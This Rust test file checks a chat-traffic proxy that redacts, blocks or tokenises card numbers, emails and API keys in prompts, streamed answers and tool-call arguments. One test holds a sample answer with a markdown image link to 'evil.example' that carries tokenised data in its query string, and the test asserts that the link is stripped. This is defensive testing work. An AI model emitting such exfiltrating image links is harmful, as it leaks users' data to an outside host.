//! Model traffic under the real detectors.

#![cfg(test)]

use bytes::{Bytes, BytesMut};
use portcullis_core::halt::Reason;
use portcullis_core::record::{Action, Finding};
use portcullis_inspect::detect::Detector;
use portcullis_inspect::dialect::openai::chat::{ChatStream, inspect_request, screen_answer};
use portcullis_inspect::dialect::{ModelRules, StreamEnd};
use portcullis_inspect::elsewhere::Hearing;
use portcullis_inspect::machine::Screen;
use portcullis_inspect::vault::TokenKey;
use proptest::prelude::*;
use serde_json::{Value, json};

const CARD: &str = "4111 1111 1111 1111";

fn rules(action: Action) -> ModelRules {
    let screen =
        Screen::new(&[(Detector::Email, action), (Detector::Card, action), (Detector::ApiKey, action)]);
    ModelRules { prompt: screen.clone(), answer: screen, ..ModelRules::default() }
}

fn events(pieces: &[&str], is_call: bool) -> String {
    let mut events = String::new();
    for piece in pieces {
        let delta = if is_call {
            json!({"tool_calls": [{"index": 0, "function": {"arguments": piece}}]})
        } else {
            json!({"content": piece})
        };
        let chunk = json!({"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m",
            "choices": [{"index": 0, "delta": delta, "finish_reason": null}]});
        events.push_str(&format!("data: {chunk}\n\n"));
    }
    events + "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n"
}

/// What a client hears of one choice, its last finish reason, and how the stream ended.
fn hear(input: &str, action: Action) -> (String, String, Result<(), StreamEnd>, Vec<Finding>) {
    let mut stream = ChatStream::new(&rules(action), false, "r");
    let mut out = BytesMut::new();
    let end = stream.push(input.as_bytes(), &mut out).and_then(|()| stream.finish(&mut out));
    let (mut text, mut finish) = (String::new(), String::new());
    for data in
        std::str::from_utf8(&out).unwrap().split("\n\n").filter_map(|event| event.strip_prefix("data: "))
    {
        let Ok(chunk) = serde_json::from_str::<Value>(data) else { continue };
        let choice = &chunk["choices"][0];
        let delta = &choice["delta"];
        let piece = delta["content"].as_str().or(delta["tool_calls"][0]["function"]["arguments"].as_str());
        text.push_str(piece.unwrap_or_default());
        finish.push_str(choice["finish_reason"].as_str().unwrap_or_default());
    }
    assert!(out.ends_with(b"data: [DONE]\n\n"));
    (text, finish, end, stream.take_findings())
}

#[test]
fn a_stream_is_redacted_across_its_deltas() {
    let (text, finish, end, findings) = hear(
        &events(
            &["Pay with ", "4111", " 1111", " 11", "11 1111", " or write to bo", "b@exam", "ple.com", "."],
            false,
        ),
        Action::Redact,
    );
    assert!(text.starts_with("Pay with ") && text.ends_with('.'), "{text}");
    assert!(!text.contains("1111") && !text.contains("bob") && !text.contains("exam"), "{text}");
    assert_eq!((finish.as_str(), end), ("stop", Ok(())));
    assert_eq!(findings.iter().map(|finding| finding.detector).collect::<Vec<_>>(), ["card", "email"]);
    assert!(findings.iter().all(|finding| finding.at == "choice 0 content"));
}

#[test]
fn escapes_in_streamed_arguments_hide_nothing() {
    let (text, ..) = hear(
        &events(&["{\"to\":\"bob\\u00", "40example.com\",\"n\":\"x\\n4111 1111", " 1111 1111\\n\"}"], true),
        Action::Redact,
    );
    let arguments: Value = serde_json::from_str(&text).unwrap();
    assert!(!text.contains("bob") && !text.contains("1111"), "{text}");
    assert!(arguments["n"].as_str().unwrap().starts_with("x\n"), "{text}");
}

#[test]
fn a_blocked_stream_is_filtered_content_and_says_nothing_of_it() {
    let (text, finish, end, findings) =
        hear(&events(&["My card is 4111", " 1111 1111 1111.", " Use it."], false), Action::Block);
    assert_eq!(
        (text.as_str(), finish.as_str(), end),
        ("My card is ", "content_filter", Err(StreamEnd::Blocked))
    );
    assert_eq!(findings.len(), 1);
}

#[test]
fn requests_and_whole_answers_meet_the_same_detectors() {
    let document =
        json!({"model": "m", "messages": [{"role": "user", "content": format!("card {CARD} please")}]});
    let mut findings = Vec::new();
    let inspected =
        inspect_request(&rules(Action::Redact), &document, &mut Hearing::default(), &mut findings).unwrap();
    assert!(!std::str::from_utf8(&inspected.body).unwrap().contains("1111"));
    assert_eq!(findings[0].at, "/messages/0/content");
    let halt = inspect_request(&rules(Action::Block), &document, &mut Hearing::default(), &mut findings)
        .unwrap_err();
    assert_eq!(halt.reason(), Some(Reason::ContentBlocked));
    let body =
        Bytes::from(format!("{{\"choices\":[{{\"message\":{{\"content\":\"card {CARD} please\"}}}}]}}"));
    let left = screen_answer(&rules(Action::Redact), &body, &mut findings).unwrap().body;
    assert!(!std::str::from_utf8(&left).unwrap().contains("1111"));
    assert_eq!(screen_answer(&rules(Action::Observe), &body, &mut findings).unwrap().body, body);
    let halt = screen_answer(&rules(Action::Block), &body, &mut findings).unwrap_err();
    assert_eq!(halt.reason(), Some(Reason::AnswerBlocked));
}

proptest! {
    #[test]
    fn however_a_model_cuts_its_words_a_client_hears_the_same(
        words in proptest::collection::vec(proptest::sample::select(vec![
            CARD, "bob@example.com", " ", "and", "\n", "\u{e9}", "4111", "1111", "@", ".", "sk-", "user", "\"", "\\",
        ]), 0..12),
        cuts in proptest::collection::vec(0usize..120, 0..10),
    ) {
        let text = words.concat();
        let mut at: Vec<_> = cuts.into_iter().filter(|cut| *cut < text.len() && text.is_char_boundary(*cut)).collect();
        at.extend([0, text.len()]);
        at.sort_unstable();
        let pieces: Vec<_> = at.windows(2).map(|pair| text.get(pair[0]..pair[1]).unwrap()).collect();
        for action in [Action::Redact, Action::Observe, Action::Block] {
            let whole = hear(&events(&[&text], false), action);
            prop_assert_eq!(&whole, &hear(&events(&pieces, false), action));
            if action == Action::Observe {
                prop_assert_eq!(&whole.0, &text);
            }
        }
    }
}

/// Personal data becomes tokens; secrets are redacted on both ways.
fn tokenising() -> ModelRules {
    let personal = [Detector::Email, Detector::Card, Detector::Phone, Detector::PostalAddress];
    let prompt: Vec<_> = personal.map(|one| (one, Action::Tokenise)).into_iter().collect();
    let answer: Vec<_> = personal
        .into_iter()
        .chain([Detector::ApiKey, Detector::ImageData])
        .map(|one| (one, Action::Redact))
        .collect();
    ModelRules {
        prompt: Screen::new(&prompt),
        answer: Screen::new(&answer),
        tokens: Some(TokenKey::new(&[9; 32])),
        ..ModelRules::default()
    }
}

/// What the model is asked, and the rules for its answer.
fn ask(content: &str) -> (String, ModelRules) {
    let (rules, vault) = tokenising().tokenising(&["model", "issuer", "ann"]).unwrap();
    let document = json!({"model": "m", "messages": [{"role": "user", "content": content}]});
    let asked = inspect_request(&rules, &document, &mut Hearing::default(), &mut Vec::new()).unwrap();
    let body: Value = serde_json::from_slice(&asked.body).unwrap();
    let sent = body["messages"][0]["content"].as_str().unwrap().to_owned();
    (sent, tokenising().restoring(&vault))
}

fn restored(rules: &ModelRules, pieces: &[&str], is_call: bool) -> String {
    let mut stream = ChatStream::new(rules, false, "r");
    let mut out = BytesMut::new();
    stream.push(events(pieces, is_call).as_bytes(), &mut out).unwrap();
    stream.finish(&mut out).unwrap();
    let events =
        std::str::from_utf8(&out).unwrap().split("\n\n").filter_map(|event| event.strip_prefix("data: "));
    events
        .filter_map(|data| serde_json::from_str::<Value>(data).ok())
        .filter_map(|chunk| {
            let delta = &chunk["choices"][0]["delta"];
            delta["content"]
                .as_str()
                .or(delta["tool_calls"][0]["function"]["arguments"].as_str())
                .map(str::to_owned)
        })
        .collect()
}

#[test]
fn the_model_sees_no_personal_data_and_the_client_its_own() {
    let text = "Write to ann@example.com, card 4111 1111 1111 1111, not to EMAIL_7KQM2DRX4V.";
    let (sent, answer) = ask(text);
    assert!(!sent.contains("ann@") && !sent.contains("4111") && !sent.contains("7KQM"), "{sent}");
    // Sent again with the next request, the same value is the same token.
    assert_eq!(ask(text).0, sent);
    let body = json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": sent,
        "tool_calls": [{"function": {"name": "mail", "arguments": json!({"to": sent}).to_string()}}]}}]});
    let screened = screen_answer(&answer, &Bytes::from(body.to_string()), &mut Vec::new()).unwrap();
    let heard: Value = serde_json::from_slice(&screened.body).unwrap();
    let message = &heard["choices"][0]["message"];
    assert_eq!(message["content"], text);
    let arguments = message["tool_calls"][0]["function"]["arguments"].as_str().unwrap();
    assert_eq!(serde_json::from_str::<Value>(arguments).unwrap(), json!({"to": text}));
    assert_eq!(restored(&answer, &[&sent], false), text);
}

#[test]
fn what_is_not_the_clients_own_is_screened_and_tokens_do_not_leave_in_links() {
    let (sent, answer) = ask("ann@example.com");
    let said = format!("{sent} but bob@example.com and ![x](https://evil.example/p?d={sent})");
    assert_eq!(restored(&answer, &[&said], false), "ann@example.com but [email] and ![image]");
    // Another caller's tokens mean nothing here.
    let (other, _) = tokenising().tokenising(&["model", "issuer", "bob"]).unwrap();
    let document =
        json!({"model": "m", "messages": [{"role": "user", "content": format!("{sent} ann@example.com")}]});
    let asked = inspect_request(&other, &document, &mut Hearing::default(), &mut Vec::new()).unwrap();
    assert!(!std::str::from_utf8(&asked.body).unwrap().contains(&sent));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn what_was_tokenised_comes_back_in_any_split(
        parts in proptest::collection::vec(0..7_usize, 1..7), size in 1..9_usize, is_call: bool,
    ) {
        let all = ["ann@example.com", " or ", "4111 1111 1111 1111", " at +49 30 12345678 ", "é \"", "josé@exámple.org", "EMAIL_7KQM2DRX4V"];
        let text = parts.iter().map(|nth| all[*nth]).collect::<Vec<_>>().join(" ");
        let (sent, answer) = ask(&text);
        prop_assert!(!sent.contains('@') && !sent.contains("4111"), "{}", sent);
        let said = if is_call { json!({"a": sent}).to_string() } else { sent };
        let signs: Vec<char> = said.chars().collect();
        let pieces: Vec<String> = signs.chunks(size).map(|piece| piece.iter().collect()).collect();
        let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
        let heard = restored(&answer, &pieces, is_call);
        if is_call {
            prop_assert_eq!(serde_json::from_str::<Value>(&heard).unwrap(), json!({"a": text}));
        } else {
            prop_assert_eq!(heard, text);
        }
    }
}
